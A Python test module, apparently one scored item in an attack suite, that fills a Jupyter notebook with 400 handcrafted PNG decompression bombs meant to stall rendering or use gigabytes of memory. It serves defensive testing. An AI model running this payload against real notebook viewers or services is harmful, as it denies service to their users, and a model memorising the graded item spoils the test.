"""Displays hundreds of small pictures, each of which unfolds into tens of megabytes."""

import base64
import struct
import zlib

import nbformat

from tests.attacks.suite import Attack

SIDE = 4_400


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def change(notebook, target):
    rows = zlib.compress((b"\0" + bytes(SIDE // 8)) * SIDE, 9)
    size = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 0, 0, 0, 0)
    for number in range(400):
        cell = nbformat.v4.new_code_cell("1")
        said = chunk(b"tEXt", b"number\0%d" % number)
        parts = chunk(b"IHDR", size) + said + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
        picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + parts).decode()
        cell.outputs = [nbformat.v4.new_output("display_data", {"image/png": picture})]
        notebook.cells.append(cell)


ATTACK = Attack(
    harm="minutes for a page, or gigabytes of memory",
    answer="exec(RIGHT)",
    change=change,
    points=8.0,
)
